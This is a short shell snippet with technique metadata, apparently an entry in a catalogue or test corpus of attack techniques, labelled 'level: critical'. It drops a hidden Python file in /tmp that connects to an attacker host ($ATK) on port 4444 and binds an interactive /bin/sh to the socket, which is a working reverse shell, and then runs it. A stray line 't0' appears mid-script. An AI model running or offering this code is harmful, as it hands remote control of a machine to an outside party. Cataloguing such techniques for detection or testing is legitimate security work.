# SPDX-License-Identifier: MIT
# technique: python script: a shell whose standard streams are the socket
# level: critical
# quick: no
cat >/tmp/.agent.py <<X
import socket, subprocess
s = socket.create_connection(("$ATK", 4444))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
X
t0
python3 /tmp/.agent.py
